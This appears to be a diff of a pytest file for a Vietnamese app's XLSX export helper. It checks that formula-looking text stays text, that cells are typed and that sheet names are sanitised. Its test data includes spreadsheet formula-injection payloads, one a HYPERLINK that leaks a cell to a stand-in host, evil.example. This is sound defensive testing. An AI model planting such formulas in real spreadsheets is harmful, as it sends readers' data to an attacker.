@@ -1,14 +1,64 @@
-"""Text cells are written as text, never as formulas, and a character a worksheet cannot hold
-never fails an export."""
+"""The exports' XLSX writer: text stays text (never a formula), numbers, dates and percentages are
+typed cells with Vietnamese formats, sheet names are ones Excel accepts."""
 
 import datetime as dt
 import io
 import zipfile
 
 import pytest
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
 
-from common.xlsx import Percent, add_sheet, new_workbook, workbook_bytes, write_cell
+from common.xlsx import Percent, add_sheet, new_workbook, sheet_title, workbook_bytes, write_cell
+
+
+def _read(wb):
+    return load_workbook(io.BytesIO(workbook_bytes(wb)))
+
+
+def test_text_that_looks_like_a_formula_stays_text():
+    wb = new_workbook()
+    add_sheet(wb, "Kiến nghị", ["Nội dung"], [['=HYPERLINK("http://x","bấm")'], ["+1"], ["-2"], ["@SUM(A1)"]])
+    cells = [row[0] for row in _read(wb).active.iter_rows(min_row=2)]
+    assert [c.value for c in cells] == ['=HYPERLINK("http://x","bấm")', "+1", "-2", "@SUM(A1)"]
+    assert {c.data_type for c in cells} == {"s"}
+
+
+def test_numbers_dates_and_percentages_are_typed_cells_with_vietnamese_formats():
+    wb = new_workbook()
+    row = [7, dt.date(2026, 3, 20), dt.datetime(2026, 3, 20, 9, 30), Percent(66.7), Percent(None), None, "văn bản"]
+    add_sheet(wb, "Số liệu", list("ABCDEFG"), [row], caption="Tỉnh Hòa Bình – Năm 2026")
+    sheet = _read(wb).active
+    assert sheet["A1"].value == "Tỉnh Hòa Bình – Năm 2026" and sheet["A1"].font.bold
+    assert [c.value for c in sheet[2]] == list("ABCDEFG") and sheet["A2"].font.bold
+    number, day, moment, rate, empty_rate, empty, text = sheet[3]
+    assert number.value == 7 and number.data_type == "n"
+    assert day.value == dt.datetime(2026, 3, 20) and day.number_format == "dd/mm/yyyy"
+    assert moment.value == dt.datetime(2026, 3, 20, 9, 30) and moment.number_format == "dd/mm/yyyy hh:mm"
+    assert rate.value == 0.667 and rate.number_format == "0.0%"
+    assert empty_rate.value is None and empty.value is None
+    assert text.value == "văn bản"
+    assert sheet.freeze_panes == "A3"
+
+
+def test_sheet_names_are_ones_excel_accepts_and_never_twice_the_same():
+    assert sheet_title("Cấp huyện (đến 30/6/2025)") == "Cấp huyện (đến 30-6-2025)"
+    assert sheet_title("a:b*c?d[e]f\\g") == "a-b-c-d-e-f-g"
+    assert sheet_title("") == "Sheet" and len(sheet_title("x" * 50)) == 31
+    wb = new_workbook()
+    for _ in range(3):
+        add_sheet(wb, "Cấp huyện (đến 30/6/2025)", ["A"], [[1]])
+    assert _read(wb).sheetnames == [
+        "Cấp huyện (đến 30-6-2025)",
+        "Cấp huyện (đến 30-6-2025)-2",
+        "Cấp huyện (đến 30-6-2025)-3",
+    ]
+
+
+def test_control_characters_do_not_break_the_file():
+    wb = new_workbook()
+    add_sheet(wb, "x", ["A"], [["a\x00b\x07c\u202e"]])
+    assert _read(wb).active["A2"].value.startswith("a")
+
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
@@ -36,14 +86,16 @@ def test_a_text_that_looks_like_a_formula_stays_text(text):
         assert cell.quotePrefix  # Excel keeps it text when the cell is edited
 
 
-def test_numbers_dates_and_percents_keep_their_types():
-    wb = new_workbook()
+def test_the_openpyxl_writer_keeps_numbers_dates_and_percents_typed():
+    wb = Workbook()
     ws = wb.create_sheet("x")
     write_cell(ws, 1, 1, 42)
     write_cell(ws, 1, 2, dt.date(2026, 3, 20))
     write_cell(ws, 1, 3, Percent(50.0))
     write_cell(ws, 1, 4, "Đề nghị")
-    sheet = load_workbook(io.BytesIO(workbook_bytes(wb)))["x"]
+    buffer = io.BytesIO()
+    wb.save(buffer)
+    sheet = load_workbook(buffer)["x"]
     assert sheet["A1"].value == 42
     assert sheet["B1"].value == dt.datetime(2026, 3, 20) and sheet["B1"].number_format == "dd/mm/yyyy"
     assert sheet["C1"].value == 0.5
@@ -52,9 +104,7 @@ def test_numbers_dates_and_percents_keep_their_types():
 
 def test_characters_a_worksheet_cannot_hold_are_dropped_not_an_error():
     wb = new_workbook()
-    ws = wb.create_sheet("x")
-    write_cell(ws, 1, 1, "Dòng 1\x0bDòng 2\x00\x01")
-    write_cell(ws, 1, 2, "x" * 40_000)
-    sheet = load_workbook(io.BytesIO(workbook_bytes(wb)))["x"]
-    assert sheet["A1"].value == "Dòng 1\nDòng 2"
-    assert len(sheet["B1"].value) == 32_767
+    add_sheet(wb, "x", ["A", "B"], [["Dòng 1\x0bDòng 2\x00\x01", "x" * 40_000]])
+    sheet = _read(wb)["x"]
+    assert sheet["A2"].value == "Dòng 1\nDòng 2"
+    assert len(sheet["B2"].value) == 32_767
